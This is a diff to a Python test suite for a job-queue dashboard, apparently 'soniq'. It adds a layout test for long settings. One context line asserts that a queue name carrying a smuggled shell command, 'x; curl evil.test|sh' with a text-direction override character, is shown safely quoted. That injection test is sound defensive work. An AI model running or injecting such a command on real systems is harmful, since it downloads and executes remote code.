@@ -128,6 +128,15 @@ def test_a_queue_that_is_named_like_a_command_is_one_word(site, screen):
     assert command == r"soniq worker --queues $'x; curl evil.test|sh \u202e'"
 
 
+def test_a_setting_of_any_length_stays_in_the_page(site, screen):
+    words = ",".join(f"word{n}" for n in range(200))
+    shown = screen(site(dashboard_hidden_keys=words), "system")
+    for width in (1280, 360):
+        shown.page.set_viewport_size({"width": width, "height": 800})
+        shown.page.get_by_text("word199").first.wait_for(state="attached")
+        assert shown.fits(), width
+
+
 @pytest.mark.parametrize("kind", ("postgresql", "sqlite"))
 def test_nothing_hides_what_rows_hold(site, screen, samples, kind):
     """What turns the direction of writing is written as its number, in whatever it stands."""
